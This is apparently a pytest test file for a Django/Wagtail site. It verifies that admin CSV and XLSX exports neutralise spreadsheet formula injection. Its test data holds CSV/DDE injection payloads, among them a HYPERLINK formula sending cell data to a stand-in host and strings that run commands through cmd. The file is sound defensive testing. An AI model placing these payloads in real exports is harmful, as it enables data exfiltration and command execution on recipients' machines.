"""Every CSV and XLSX export of the admin neutralises spreadsheet formulas: the site's own
reports, the quiz statistics and Wagtail's reports (site history, locked pages...) and any
view built on Wagtail's ``SpreadsheetExportMixin`` that the URL configuration holds."""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Page

from home.spreadsheet import FORMULA_PREFIXES, neutralise
from learners.importing import FORMULA_PREFIXES as IMPORT_PREFIXES
from tests.learners.factories import UserFactory
from tests.quizzes.factories import QuizPageFactory

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_one_definition_of_formula_prefixes():
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    assert IMPORT_PREFIXES is FORMULA_PREFIXES


@pytest.mark.parametrize("value", MALICIOUS)
def test_neutralise_is_idempotent(value):
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == "'" + value


def export_view_classes():
    """Every class-based view in the URL configuration that exports spreadsheets."""
    found = set()

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class and issubclass(view_class, SpreadsheetExportMixin):
                    found.add(view_class)

    walk(get_resolver().url_patterns)
    return sorted(found, key=lambda cls: f"{cls.__module__}.{cls.__qualname__}")


EXPORT_VIEWS = export_view_classes()


def test_the_url_walk_finds_the_known_export_views():
    names = {cls.__name__ for cls in EXPORT_VIEWS}
    assert {
        "QuizStatisticsReportView",  # quizzes
        "ScopedLogEntriesView",  # reports/history.py: the site history
        "CompletionReportView",  # reports
        "LockedPagesView",  # Wagtail's own
        "AgingPagesView",
    } <= names
    assert len(EXPORT_VIEWS) >= 8


@pytest.mark.parametrize("view_class", EXPORT_VIEWS, ids=lambda cls: cls.__qualname__)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_export_view_neutralises_cells_and_headings(view_class, export_format):
    view = view_class()
    view.custom_field_preprocess = {}  # a field of no custom preprocessing
    view.export_headings = {"malicious": "=HEADING()"}
    for value in MALICIOUS:
        written = view.preprocess_field_value("malicious", value, export_format)
        assert written == "'" + value, view_class
    assert view.get_heading(Page.objects.none(), "malicious") == "'=HEADING()"
    # Plain text and numbers are left as they are (a CSV may write a number as its text).
    assert view.preprocess_field_value("malicious", 5, export_format) in (5, "5")
    assert view.preprocess_field_value("malicious", "Cải cách", export_format) == "Cải cách"


# End to end: the files as downloaded -------------------------------------------------------------


def csv_cells(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def assert_no_formula(cells, expected):
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in texts if cell[:1] in FORMULA_PREFIXES]
    for value in expected:
        assert "'" + value in texts


@pytest.fixture
def superuser(client):
    user = UserFactory(username="quantri", is_superuser=True, is_staff=True)
    client.force_login(user)
    return user


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_quiz_statistics_export_neutralises_titles(client, superuser, export_format):
    quiz = QuizPageFactory(title=MALICIOUS[0])
    module = quiz.get_parent().specific
    module.title = MALICIOUS[1]
    module.save_revision().publish()

    response = client.get(reverse("quizzes_statistics_report"), {"export": export_format})

    assert response.status_code == 200
    cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
    assert_no_formula(cells, MALICIOUS[:2])


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_site_history_and_locked_pages_exports_neutralise_labels(client, superuser, export_format):
    quiz = QuizPageFactory(title=MALICIOUS[2])
    log(instance=quiz, action="wagtail.edit", user=superuser)
    Page.objects.filter(pk=quiz.pk).update(
        locked=True, locked_by=superuser, locked_at=timezone.now()
    )

    for url in [
        reverse("wagtailadmin_reports:site_history"),
        reverse("wagtailadmin_reports:locked_pages"),
    ]:
        response = client.get(url, {"export": export_format})
        assert response.status_code == 200, url
        cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
        assert_no_formula(cells, MALICIOUS[2:3])
